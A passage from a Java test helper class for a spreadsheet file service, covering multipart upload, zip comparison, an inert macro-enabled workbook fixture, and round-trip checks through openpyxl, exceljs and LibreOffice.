            body.writeBytes(file.getValue());
            body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        byte[] bytes = body.toByteArray();
        return client.send(HttpRequest.newBuilder(URI.create(base() + "/api/files"))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes))).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    /**
     * Each stored file's id, revision and sha256 as list_files gives them: its download links carry
     * an expiry that moves with the clock, so the whole answer is not compared.
     */
    List<String> storedFiles() throws Exception {
        List<String> files = new java.util.ArrayList<>();
        for (JsonNode f : http.callTool(session, "list_files", Map.of()).path("structuredContent").path("files")) {
            files.add(f.path("fileId").asText() + " r" + f.path("revision").asText() + " " + f.path("sha256").asText());
        }
        return files;
    }

    /** The zip entries of both, which must be the same names with the same bytes; returns them. */
    static Map<String, byte[]> assertSamePartByPart(byte[] uploaded, byte[] stored) throws IOException {
        Map<String, byte[]> in = entries(uploaded);
        Map<String, byte[]> out = entries(stored);
        assertThat(out.keySet()).containsExactlyElementsOf(in.keySet());
        for (String name : in.keySet()) {
            assertThat(out.get(name)).as(name).isEqualTo(in.get(name));
        }
        return out;
    }

    static Map<String, byte[]> entries(byte[] zip) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                entries.put(e.getName(), in.readAllBytes());
            }
        }
        return entries;
    }

    static String entry(byte[] zip, String name) throws IOException {
        byte[] bytes = entries(zip).get(name);
        assertThat(bytes).as(name).isNotNull();
        return new String(bytes, StandardCharsets.UTF_8);
    }

    /** The workbook with a VBA project inside and the macro-enabled content type, as Excel writes an xlsm. */
    static byte[] withMacros(byte[] xlsx) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> e : entries(xlsx).entrySet()) {
                byte[] bytes = e.getValue();
                if (e.getKey().equals("[Content_Types].xml")) {
                    bytes = new String(bytes, StandardCharsets.UTF_8).replace(
                            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                            "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace("</Types>",
                                    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                                            + "</Types>").getBytes(StandardCharsets.UTF_8);
                } else if (e.getKey().equals("xl/_rels/workbook.xml.rels")) {
                    bytes = new String(bytes, StandardCharsets.UTF_8).replace("</Relationships>",
                            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/"
                                    + "vbaProject\" Target=\"vbaProject.bin\"/></Relationships>")
                            .getBytes(StandardCharsets.UTF_8);
                }
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(bytes);
                zip.closeEntry();
            }
            zip.putNextEntry(new ZipEntry("xl/vbaProject.bin"));
            zip.write("not really VBA, never run".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        return out.toByteArray();
    }

    /** Runs a Python script with Debian's openpyxl that writes a workbook to argv[1]; returns its bytes. */
    static byte[] openpyxl(String script) throws IOException, InterruptedException {
        requireOpenpyxl();
        Path dir = Files.createTempDirectory(DATA, "py");
        Path out = dir.resolve("book.xlsx");
        run(List.of(PYTHON, "-c", script, out.toString()));
        return Files.readAllBytes(out);
    }

    /** openpyxl as a second reader: loads {@code xlsx} as {@code wb} and prints what {@code code} prints. */
    static String readBack(byte[] xlsx, String code) throws IOException, InterruptedException {
        requireOpenpyxl();
        Path file = Files.createTempFile(DATA, "back", ".xlsx");
        Files.write(file, xlsx);
        return run(List.of(PYTHON, "-c", "import sys, openpyxl\nwb = openpyxl.load_workbook(sys.argv[1])\n" + code,
                file.toString())).strip();
    }

    private static String run(List<String> command) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!p.waitFor(60, TimeUnit.SECONDS) || p.exitValue() != 0) {
            fail("python failed: " + output);
        }
        return output;
    }

    static void requireOpenpyxl() throws IOException, InterruptedException {
        Process p = new ProcessBuilder(PYTHON, "-c", "import openpyxl").redirectErrorStream(true).start();
        if (!p.waitFor(30, TimeUnit.SECONDS) || p.exitValue() != 0) {
            fail("Debian's python3-openpyxl is needed (apt-get install python3-openpyxl; .ci/run installs it)");
        }
    }

    /**
     * Runs a Node script with exceljs (from SHEETSMITH_EXCELJS, a folder holding node_modules/exceljs,
     * as .ci/run installs it) that writes a workbook to argv[2]; returns its bytes.
     */
    static byte[] exceljs(String script) throws IOException, InterruptedException {
        Path folder = Path.of(System.getenv().getOrDefault("SHEETSMITH_EXCELJS",
                System.getProperty("user.home") + "/.cache/sheetsmith-tools"));
        if (!Files.isDirectory(folder.resolve("node_modules/exceljs"))) {
            String missing = "exceljs is not in " + folder + "/node_modules (set SHEETSMITH_EXCELJS to a folder where"
                    + " `npm install --prefix <folder> exceljs@4.4.0` ran; .ci/run does)";
            if ("1".equals(System.getenv("SHEETSMITH_REQUIRE_EXCELJS")) || "true".equals(System.getenv("CI"))) {
                fail(missing);
            }
            Assumptions.abort(missing + "; its upload check is skipped");
        }
        Path dir = Files.createTempDirectory(DATA, "js");
        Path js = dir.resolve("book.cjs");
        Files.writeString(js, script);
        Path out = dir.resolve("book.xlsx");
        ProcessBuilder builder = new ProcessBuilder("node", js.toString(), out.toString()).redirectErrorStream(true);
        builder.environment().put("NODE_PATH", folder.resolve("node_modules").toString());
        Process p = builder.start();
        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!p.waitFor(60, TimeUnit.SECONDS) || p.exitValue() != 0) {
            fail("node with exceljs failed: " + output);
        }
        return Files.readAllBytes(out);
    }

    static String soffice() {
        for (String dir : System.getenv().getOrDefault("PATH", "").split(":")) {
            Path candidate = Path.of(dir, "soffice");
            if (Files.isExecutable(candidate)) {
                return candidate.toString();
            }
        }
        if ("1".equals(System.getenv("SHEETSMITH_REQUIRE_LIBREOFFICE"))) {
            fail("LibreOffice (soffice) is required here but not on the PATH");
        }
        Assumptions.abort("LibreOffice (soffice) is not installed; its upload check is skipped");
        return null;
    }
}
